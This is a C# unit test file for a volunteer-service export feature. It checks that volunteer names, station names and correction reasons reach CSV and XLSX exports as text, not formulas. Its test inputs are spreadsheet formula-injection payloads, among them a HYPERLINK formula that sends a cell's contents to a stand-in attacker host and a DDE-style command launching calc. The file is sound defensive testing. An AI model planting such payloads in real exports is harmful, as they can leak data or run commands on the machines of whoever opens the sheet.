using System.Globalization;
using System.Text;
using CsvHelper;
using MiniExcelLibs;
using Outreach.Contracts;
using Outreach.Model;
using Outreach.Tests.Infrastructure;
using Outreach.Web.Hours;

namespace Outreach.Tests.Unit;

/// <summary>What a volunteer or coordinator typed reaches the union's spreadsheet as text, never as a formula.</summary>
[Category(TestCategory.Unit)]
public sealed class ServiceExportTests
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";

    private static readonly Guid Station = Guid.NewGuid();

    private static ServiceRecordDto Record(string volunteer, string reason) => new(
        Guid.NewGuid(), Guid.NewGuid(), 1, Guid.NewGuid(), volunteer, Station, HelpCategory.Meals,
        DateTimeOffset.Parse("2024-06-01T09:00:00+08:00", CultureInfo.InvariantCulture),
        DateTimeOffset.Parse("2024-06-01T10:30:00+08:00", CultureInfo.InvariantCulture),
        90, 1.5, 80, true, 5, new ServiceCorrectionDto(90, reason, "协调员", DateTimeOffset.UnixEpoch));

    [Theory]
    [InlineData(Formula)]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1,1)")]
    public void Csv_AFieldThatWouldBeAFormula_IsWrittenAsText(string typed)
    {
        var bytes = ServiceExport.Csv([Record(typed, typed)], new Dictionary<Guid, string> { [Station] = typed });

        using var reader = new CsvReader(new StringReader(Encoding.UTF8.GetString(bytes[3..])), CultureInfo.InvariantCulture);
        var row = Assert.Single(reader.GetRecords<dynamic>().Cast<IDictionary<string, object>>());
        foreach (var column in new[] { "志愿者", "驿站", "更正原因" })
            Assert.Equal("'" + typed, (string)row[column]);
        Assert.Equal("90", (string)row["服务分钟"]);
        Assert.Equal("1.5", (string)row["服务小时"]);
    }

    [Fact]
    public void Csv_PlainText_IsUnchanged()
    {
        var bytes = ServiceExport.Csv([Record("李明-志愿者", "多记了 10 分钟")], new Dictionary<Guid, string> { [Station] = "胜利路驿站" });

        using var reader = new CsvReader(new StringReader(Encoding.UTF8.GetString(bytes[3..])), CultureInfo.InvariantCulture);
        var row = Assert.Single(reader.GetRecords<dynamic>().Cast<IDictionary<string, object>>());
        Assert.Equal("李明-志愿者", (string)row["志愿者"]);
        Assert.Equal("多记了 10 分钟", (string)row["更正原因"]);
    }

    [Fact]
    public void Xlsx_AFormulaTyped_IsACellOfText()
    {
        var bytes = ServiceExport.Xlsx(new ServicePeriod(new DateOnly(2024, 6, 1), new DateOnly(2024, 6, 30)),
            [Record(Formula, Formula)], new Dictionary<Guid, string> { [Station] = Formula });

        using var workbook = new MemoryStream(bytes);
        var line = Assert.Single(workbook.Query(useHeaderRow: true, sheetName: ServiceExport.RecordsSheet, excelType: ExcelType.XLSX)
            .Cast<IDictionary<string, object?>>());
        Assert.Equal(Formula, line["志愿者"]);
        Assert.Equal(Formula, line["更正原因"]);
        using var archive = new System.IO.Compression.ZipArchive(new MemoryStream(bytes));
        foreach (var entry in archive.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal)))
        {
            using var text = new StreamReader(entry.Open());
            Assert.DoesNotContain("<x:f>", text.ReadToEnd().Replace("<f>", "<x:f>", StringComparison.Ordinal), StringComparison.Ordinal);
        }
    }
}
